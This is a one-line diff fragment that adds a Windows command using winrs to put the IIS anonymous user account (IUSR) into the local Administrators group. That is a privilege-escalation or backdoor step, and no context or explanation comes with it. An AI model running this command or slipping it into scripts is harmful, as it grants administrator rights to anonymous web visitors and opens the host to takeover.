@@ -1,0 +1,1 @@
+winrs -r:localhost net localgroup Administrators IUSR /add
